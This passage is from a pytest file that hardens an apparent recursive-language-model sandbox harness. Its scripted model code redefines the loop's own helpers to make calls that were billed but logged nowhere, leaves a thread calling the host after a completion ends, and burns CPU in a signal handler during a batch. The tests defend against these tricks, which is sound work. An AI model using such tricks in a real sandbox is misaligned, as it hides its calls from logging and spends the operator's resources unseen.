    assert budget == rlm.core.BLOCK_CALL_LOG_CHARS


def test_the_loop_s_own_helpers_serve_no_model_call(tmp_path):
    """After each block the loop runs ``rlm_describe_vars()`` in the sandbox, and ``FINAL_VAR``
    for one written in the reply, both capped at HELPER_TIMEOUT_S: the model may redefine them.
    A redefined one that called ``llm_query`` had its calls served: the child was killed on
    time, but the host waited for the model's answer in flight (a sub-model answering in 8 s
    kept a 10 s helper 23 s; up to the request timeout, 600 s, per block), and the calls were
    billed but logged in no block's ``rlm_calls``. While a helper runs, model and tool calls
    are now refused at once (a thread the code left running is refused too)."""
    code = (
        "def rlm_describe_vars():\n    llm_query('from rlm_describe_vars')\n    print('{}')\n"
        "def FINAL_VAR(name):\n    rlm_submit_final(lookup(llm_query('from FINAL_VAR')))\n"
        "x = llm_query('from the block')\nprint(x)"
    )  # fmt: skip

    def lookup(key: str) -> str:
        return "tool " + key

    with LLMServer("s") as srv:
        r = run(
            "q", "c", model="openai/root", sub_model="openai/sub", api_base=srv.base_url,
            backend=_RootScripted(repl(code) + "FINAL_VAR(x)", srv.base_url), tools=[lookup],
            log_dir=tmp_path, max_iterations=1,
        )  # fmt: skip
        assert [q.last_user for q in srv.requests] == ["from the block"]
    assert r.sub_calls == 1 and r.tool_calls == 0
    assert r.answer == "x"  # FINAL_VAR failed: the name itself, as for a missing variable
    (block,) = r.history[0]["code_blocks"]
    assert block["result"]["stdout"] == "s\n"
    assert [c["prompt"] for c in block["result"]["rlm_calls"]] == ["from the block"]


@pytest.mark.parametrize("guard", ["allowlist", "none"])
def test_a_thread_left_calling_does_not_break_the_session_s_next_question(guard: str):
    """With a policy that allows threads, code in a persistent session can leave one that calls a
    host function between completions. The next completion loads its context with
    ``set_variable``, the host found a ``call`` where it expected the ``ack``, killed the child
    (a protocol violation) and the completion raised SandboxFailure. It now loads the context
    once more, into a fresh child (the model is told the REPL restarted, as after a limit)."""
    from rlm import RLM
    from sandbox import load_policy

    base = load_policy("default")
    policy = base.override({
        "python.guard": guard, "limits.max_processes": 4, "audit.enabled": False,
        "python.allowed_imports": [*base.python.allowed_imports, "threading", "time"],
    })  # fmt: skip
    code = (
        "import threading, time\n"
        "def call_on():\n    while True:\n        time.sleep(0.05)\n"
        "        try:\n            llm_query('late')\n        except Exception:\n            pass\n"
        "threading.Thread(target=call_on, daemon=True).start()\nprint('started')"
    )  # fmt: skip
    seen: list[str] = []

    def model(name: str, messages: list[dict[str, str]]) -> str:
        if name == "sub":
            return "s"
        seen.append(messages[-1]["content"])
        return [repl(code), "FINAL(one)", "FINAL(two)"][len(seen) - 1]

    backend = ScriptedBackend(model)
    with RLM(model="root", sub_model="sub", backend=backend, policy=policy, persistent=True) as r:
        first = r.completion("c1", root_prompt="q1")
        assert first.answer == "one" and first.history[0]["code_blocks"][0]["result"]["stdout"] == "started\n"
        time.sleep(0.5)  # the thread calls on meanwhile: a call frame waits for the next completion
        second = r.completion("c2", root_prompt="q2")
    assert second.answer == "two"
    assert "the REPL was restarted since the last question" in seen[2]


def test_a_batch_whose_cell_was_killed_sends_no_more_prompts(tmp_path):
    """A batch of sub-calls went on to its last prompt after the cell that asked for it was
    killed (here by the CPU limit, burnt in a signal handler while the batch ran): every answer
    was thrown away, and every one paid for. Prompts not yet sent then get an error instead."""
    from sandbox import load_policy
    from tests.llm_server import Reply

    policy = load_policy("default").override(
        {"python.guard": "none", "limits.cpu_seconds": 1, "limits.wall_seconds": 60}
    )
    code = (
        "import signal\n"
        "def burn(*a):\n    while True:\n        pass\n"
        "signal.signal(signal.SIGALRM, burn)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.3)\n"
        "r = llm_query_batched(['q'] * 40)"
    )
    with LLMServer(Reply("an answer", latency_s=1.0)) as srv:
        r = run(
            "q", "c", model="openai/root", sub_model="openai/sub", api_base=srv.base_url,
            backend=_RootScripted(repl(code) + "FINAL(done)", srv.base_url), policy=policy,
            log_dir=tmp_path, max_iterations=1, max_retries=0, max_concurrency=2,
        )  # fmt: skip
        time.sleep(1)  # a prompt sent after the run would show now
        sent = len(srv.requests)
    block = r.history[0]["code_blocks"][0]
    assert "CPULimitExceeded" in block["result"]["stderr"], block["result"]
    # Two a second went out until the CPU limit struck (1 s of CPU: a few seconds on a loaded
    # machine), none after; all 40 before (20 s).
    assert 2 <= sent <= 20, sent
    assert r.answer == "done"


def test_a_reply_holding_a_lone_surrogate_neither_breaks_the_code_nor_the_next_turn():
    """A server's JSON may spell a lone surrogate (``"\\ud800"``: valid JSON, not valid Unicode).
    In a sub-call's answer it made ``llm_query`` raise a UnicodeEncodeError in the code (the answer
    paid for, lost); in a root reply it was sent back with the next turn, which litellm cannot
    encode: each retry failed the same way and the run ended with ``model_error``. The text is
    kept with the surrogate written as a backslash escape, as the sandbox and the result do."""
    from tests.llm_server import Reply

    def reply(request) -> Reply:
        if len(request.messages) == 1:  # the sub-call
            return Reply("sub \ud800 answer")
        if len(request.messages) == 2:  # the first root turn
            return Reply("thinking \udcff\n```repl\nr = llm_query('x')\nprint(repr(r))\n```")
        return Reply("FINAL(done)")

    with LLMServer(reply) as srv:
        r = run("q", "ctx", model="openai/m", api_base=srv.base_url, api_key="sk-red-team", max_iterations=3,
                retry_backoff_s=0.05)  # fmt: skip
        asked = srv.requests
    assert (r.stop_reason, r.answer, r.error) == ("final", "done", None), r
    block = r.history[0]["code_blocks"][0]["result"]
    assert block["stdout"] == "'sub \\\\ud800 answer'\n", block
    assert len(asked) == 3, [a.messages for a in asked]
    assert asked[2].messages[2] == {"role": "assistant", "content": r.history[0]["response"]}
    assert r.history[0]["response"].startswith("thinking \\udcff\n")
